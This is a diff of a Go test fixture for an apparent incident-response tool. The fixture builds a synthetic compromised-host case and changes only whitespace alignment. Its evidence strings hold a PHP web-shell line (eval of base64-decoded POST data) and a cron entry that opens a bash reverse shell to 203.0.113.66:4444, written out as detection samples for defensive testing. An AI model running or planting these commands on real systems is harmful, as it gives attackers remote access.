@@ -57,7 +57,7 @@ func syntheticCase(t testing.TB, parts caseParts) *casedir.Case {
 	entryTime := at(-3*time.Hour + 41*time.Second)
 	webshell := finding.Finding{Rule: "webshell.php", Severity: finding.Critical, Title: "PHP web shell", Path: hostileName, Strong: true,
 		Evidence: []string{"eval(base64_decode($_POST['x']))", "sha256 " + "ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12"},
-		Attack: []string{"T1505.003"}, Action: "Quarantine the file with nowwhat clean, after collect", Time: at(-2 * time.Hour).Format(time.RFC3339)}
+		Attack:   []string{"T1505.003"}, Action: "Quarantine the file with nowwhat clean, after collect", Time: at(-2 * time.Hour).Format(time.RFC3339)}
 	cron := finding.Finding{Rule: "persistence.cron-reverse-shell", Severity: finding.Critical, Title: "cron job opens a reverse shell",
 		Path: "/var/spool/cron/crontabs/deploy", User: "deploy", Strong: true,
 		Evidence: []string{"/var/spool/cron/crontabs/deploy line 1: * * * * * bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
@@ -67,7 +67,7 @@ func syntheticCase(t testing.TB, parts caseParts) *casedir.Case {
 		Explained: true, Explanation: "apt upgrade by bob at 2026-11-19 08:00", Evidence: []string{}, Attack: []string{}}
 	chk := check.Report{Verdict: finding.Compromised, Summary: "COMPROMISED: 2 strong indicators", Findings: []finding.Finding{webshell, cron, pkg},
 		Coverage: finding.Coverage{Root: "/", Live: true, Privileged: true, NotCovered: []string{"/proc/1234/exe: process gone while read"}, Counts: map[string]int{}},
-		Host: map[string]string{"hostname": "web1", "os": "Debian GNU/Linux 12 (bookworm)", "kernel": "6.1.0-28-amd64"}, Next: []string{}}
+		Host:     map[string]string{"hostname": "web1", "os": "Debian GNU/Linux 12 (bookworm)", "kernel": "6.1.0-28-amd64"}, Next: []string{}}
 	if parts.check {
 		out := saveAs("check", at(0), chk)
 		entry(casedir.Entry{Time: at(0), Command: "check", Args: []string{"--case", c.Dir, "check"}, Target: "/", Outcome: "compromised",
